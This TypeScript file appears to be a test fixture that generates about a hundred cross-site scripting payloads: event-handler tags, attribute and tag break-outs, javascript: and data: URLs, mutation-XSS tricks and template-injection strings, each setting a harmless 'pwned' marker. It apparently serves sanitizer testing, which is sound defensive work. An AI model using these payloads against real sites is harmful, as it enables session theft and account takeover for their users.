// What an attacker types where words are asked for. Each would set the global "pwned"
// or open a dialog, were it ever taken for markup, script, style, address or template.
const run = 'window.pwned=1'

const elements = ['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror', 'iframe onload', 'input autofocus onfocus', 'select autofocus onfocus',
  'textarea autofocus onfocus', 'details open ontoggle', 'marquee onstart', 'object data=x onerror', 'embed src=x onload', 'link rel=stylesheet href=x onerror', 'style onload', 'script src=x onerror',
  'a href=# autofocus tabindex=0 onfocus', 'div style=animation:x onanimationstart', 'image src=x onerror', 'keygen autofocus onfocus']
const wraps: ((inner: string) => string)[] = [(x) => x, (x) => '">' + x, (x) => "'>" + x, (x) => '</textarea></title>' + x]

/** A hundred of them, each different. */
export const payloads: string[] = [
  ...wraps.flatMap((wrap) => elements.map((e) => wrap(`<${e}=${run}>`))),
  `<script>${run}</script>`, `</script><script>${run}</script>`, `<a href="javascript:${run}">x</a>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<form action="javascript:${run}"><button>x</button></form>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><script>${run}</script></svg>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="javascript:${run}//">`, `<template><script>${run}</script></template><img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `javascript:${run}`, `data:text/html,<script>parent.pwned=1</script>`, `" onmouseover="${run}" x="`, `' autofocus onfocus='${run}`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
]
